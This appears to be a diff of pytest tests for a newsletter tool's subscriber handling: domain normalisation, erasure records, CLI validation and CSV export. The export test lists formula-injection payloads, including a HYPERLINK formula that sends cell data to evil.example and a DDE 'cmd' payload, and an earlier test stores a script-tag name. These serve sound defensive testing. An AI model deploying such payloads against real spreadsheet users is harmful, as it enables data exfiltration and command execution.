@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import hashlib
 import io
 import json
 from pathlib import Path
@@ -15,6 +17,7 @@ from typer.testing import CliRunner
 from newsletter.audience import importing
 from newsletter.audience import subscribers as subscriber_module
 from newsletter.audience.addresses import normalize_address
+from newsletter.audience.exporting import export_csv
 from newsletter.audience.importing import ImportRejected, import_csv
 from newsletter.audience.segments import parse_segment
 from newsletter.audience.subscribers import (
@@ -22,7 +25,6 @@ from newsletter.audience.subscribers import (
     audience_where,
     count_audience,
     count_subscribers,
-    export_csv,
     get_subscriber,
     iter_audience,
     iter_subscribers,
@@ -39,6 +41,7 @@ from newsletter.storage import (
     schema_migrations,
     sends,
     subscribers,
+    suppressions,
     transaction,
 )
 
@@ -141,6 +144,42 @@ def test_erase_deletes_personal_data_and_keeps_a_hash(engine: Engine, tmp_path: 
     report = import_csv(engine, csv_file(tmp_path, "email\ncy@example.org\n"))
     assert report.added == 0 and report.skipped == 1
     assert report.problems[0].reason == "erased at the subscriber's request"
+
+
+def test_one_address_however_its_domain_is_spelt(engine: Engine) -> None:
+    add_subscriber(engine, "user@bücher.de", name="U")
+    with pytest.raises(SubscriberError, match="already on the list"):
+        add_subscriber(engine, "user@xn--bcher-kva.de")
+    assert get_subscriber(engine, "USER@xn--bcher-kva.de") is not None
+    assert "erased" in remove_subscriber(engine, "user@xn--bcher-kva.de", erase=True)
+    assert get_subscriber(engine, "user@bücher.de") is None
+    assert emails(engine) == []
+    with pytest.raises(SubscriberError, match="erased at the subscriber's request"):
+        add_subscriber(engine, "user@BÜCHER.de")
+
+
+def test_strasse_and_strasse_with_sharp_s_are_two_people(engine: Engine) -> None:
+    add_subscriber(engine, "Straße@example.org")
+    add_subscriber(engine, "strasse@example.org")
+    assert emails(engine) == ["Straße@example.org", "strasse@example.org"]
+
+
+def test_erased_before_schema_3_stays_erased(engine: Engine, tmp_path: Path) -> None:
+    """Schema 2 kept sha256(address.casefold()) of the address as it came; still honoured."""
+    with engine.begin() as conn:
+        for typed in ("Old@Bücher.de", "typed@XN--BCHER-KVA.de"):
+            digest = hashlib.sha256(typed.casefold().encode()).hexdigest()
+            conn.execute(
+                insert(suppressions).values(email_hash=digest, reason="erased", created_at=now())
+            )
+    for address in ("old@bücher.de", "typed@bücher.de"):
+        with pytest.raises(SubscriberError, match="erased at the subscriber's request"):
+            add_subscriber(engine, address)
+    report = import_csv(engine, csv_file(tmp_path, "email\nold@bücher.de\ntyped@BÜCHER.de\n"))
+    assert (report.added, report.skipped) == (0, 2)
+    assert remove_subscriber(engine, "old@bücher.de", erase=True) == (
+        "old@bücher.de was already erased"
+    )
 
 
 # --- importing -----------------------------------------------------------------------------
@@ -438,3 +477,85 @@ def test_name_with_html_is_data(engine: Engine) -> None:
     with engine.connect() as conn:
         stored = conn.scalar(select(subscribers.c.name))
     assert stored == "<script>alert(1)</script>"
+
+
+# --- exports that a spreadsheet opens safely -------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)",
+    "'=1+1",  # already quoted by someone: must come back as it was
+    "'plain",
+]
+
+
+def test_export_never_starts_a_cell_with_a_formula(engine: Engine, tmp_path: Path) -> None:
+    for n, value in enumerate(FORMULAS):
+        add_subscriber(engine, f"s{n}@example.org", name=value)
+    add_subscriber(engine, "-dash@example.org", name="-Ana-")
+    with engine.begin() as conn:
+        conn.execute(subscribers.update().values(fields={"=cmd": "+44 20 7946 0000"}))
+    out = io.StringIO()
+    assert export_csv(engine, out) == len(FORMULAS) + 1
+    text = out.getvalue()
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # OWASP: a quote in front, and the cell in double quotes.
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text
+    assert ',"\'-1+1",' in text and ',"\'@SUM(1+1)",' in text
+    assert text.splitlines()[0] == 'email,name,tags,status,created_at,"\'=cmd"'
+
+    # Import reads an export back to exactly what was stored.
+    again = import_csv(engine, csv_file(tmp_path, text, name="back.csv"))
+    assert (again.added, again.updated, again.unchanged) == (0, 0, len(FORMULAS) + 1)
+    names = {s.email: s.name for s in iter_subscribers(engine)}
+    assert names["-dash@example.org"] == "-Ana-"
+    assert [names[f"s{n}@example.org"] for n in range(len(FORMULAS))] == FORMULAS
+    assert get_subscriber(engine, "s0@example.org").fields == {"=cmd": "+44 20 7946 0000"}  # type: ignore[union-attr]
+
+
+def test_cli_export_is_private_and_refuses_a_folder(workspace: Path, tmp_path: Path) -> None:
+    runner = CliRunner()
+    base = ["--workspace", str(workspace), "subscribers"]
+    assert runner.invoke(app, [*base, "add", "a@example.org"]).exit_code == 0
+    out = tmp_path / "out.csv"
+    result = runner.invoke(app, [*base, "export", "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    assert out.stat().st_mode & 0o777 == 0o600  # subscribers' data: the owner's only
+
+    result = runner.invoke(app, [*base, "export", "-o", str(tmp_path)])
+    assert result.exit_code == 1, result.output
+    assert result.stderr.startswith(f"Error: {tmp_path}: is a folder")
+    assert len(result.stderr.splitlines()) == 1
+
+    blocked = out / "inside-a-file.csv"  # a path under a file: cannot be written
+    result = runner.invoke(app, [*base, "export", "-o", str(blocked)])
+    assert result.exit_code == 1, result.output
+    assert result.stderr.startswith("Error: cannot write the export: ")
+    assert len(result.stderr.splitlines()) == 1
+    assert out.read_text().startswith("email,")
+
+
+def test_cli_add_and_remove_take_a_mailbox(workspace: Path) -> None:
+    runner = CliRunner()
+    base = ["--workspace", str(workspace), "subscribers"]
+    result = runner.invoke(app, [*base, "add", "Zoë Ngata <zoe@example.org>"])
+    assert result.exit_code == 0, result.output
+    result = runner.invoke(app, [*base, "add", "Ana <ana@example.org>", "--name", "Ana Lima"])
+    assert result.exit_code == 0, result.output
+    listed = runner.invoke(app, [*base, "list"]).stdout.splitlines()
+    assert [line.split("\t")[:3] for line in listed] == [
+        ["zoe@example.org", "active", "Zoë Ngata"],
+        ["ana@example.org", "active", "Ana Lima"],
+    ]
+    result = runner.invoke(app, [*base, "add", "Evil <a@b.co>, victim@example.org"])
+    assert result.exit_code == 1
+    assert result.stderr == (
+        "Error: 'Evil <a@b.co>, victim@example.org' is 2 addresses; "
+        "give one, e.g. 'Zoë Ngata <zoe@example.org>'\n"
+    )
+    result = runner.invoke(app, [*base, "remove", "Zoë <ZOE@example.org>"])
+    assert result.stdout == "zoe@example.org unsubscribed\n"
